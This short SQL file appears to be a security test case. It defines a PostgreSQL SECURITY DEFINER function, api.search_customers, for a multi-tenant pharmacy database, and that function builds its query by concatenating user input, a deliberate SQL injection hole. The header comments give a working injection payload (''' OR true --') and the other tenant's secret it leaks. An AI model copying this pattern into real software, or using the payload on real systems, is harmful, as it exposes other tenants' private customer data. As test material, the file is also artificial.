-- Tenant A writes its own condition: the word is put into the statement as it comes.
-- about: search_customers
-- as: hf_pharmacy_app
-- exploit: SET core.pharmacy = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SELECT name FROM api.search_customers(''' OR true --');
-- shows: Bob-secret
CREATE FUNCTION api.search_customers(word text) RETURNS SETOF core.customers LANGUAGE plpgsql STABLE
SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  RETURN QUERY EXECUTE 'SELECT * FROM core.customers WHERE pharmacy_id = core.pharmacy() AND name = '''
    || word || '''';
END $$;
GRANT EXECUTE ON FUNCTION api.search_customers TO hf_pharmacy_app;
